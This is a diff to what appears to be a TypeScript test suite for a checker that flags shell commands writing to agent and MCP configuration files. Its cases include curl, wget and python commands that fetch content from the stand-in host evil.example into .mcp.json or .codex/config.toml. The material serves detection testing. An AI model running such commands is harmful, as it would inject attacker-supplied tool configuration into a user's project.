@@ -122,17 +122,16 @@ const writes: readonly Case[] = [
     'cp -t .cursor /tmp/mcp.json',
     'tee .mcp.json <<< "$X"',
     'cat <<EOF > .mcp.json\n$X\nEOF',
-  ].map((run) => says(run, unknown)),
-  ...[
     'curl -o sub/.mcp.json https://evil.example/x',
     'wget --output-document=.mcp.json https://evil.example/x',
-  ].map((run) => says(run, unknownWithAddress)),
-  {
-    name: 'an edit of such a command',
-    base: step('curl -s https://a.example/x > .mcp.json'),
-    head: step('curl -s https://evil.example/x > .mcp.json'),
-    expected: 'changed: unidentified',
-  },
+    'python gen.py https://evil.example/x >> .codex/config.toml',
+  ].map((run) => says(run, unknown)),
+  ...['curl -s URL > .mcp.json', 'curl -o .mcp.json URL'].map((run): Case => {
+    const [base, head] = ['a.example', 'evil.example'].map((host) =>
+      step(run.replace('URL', `https://${host}/x`)),
+    ) as [Files, Files];
+    return { name: `an edit of ${run}`, base, head, expected: 'changed: unidentified' };
+  }),
 ];
 
 const gateway = (lines: string): Files => ({
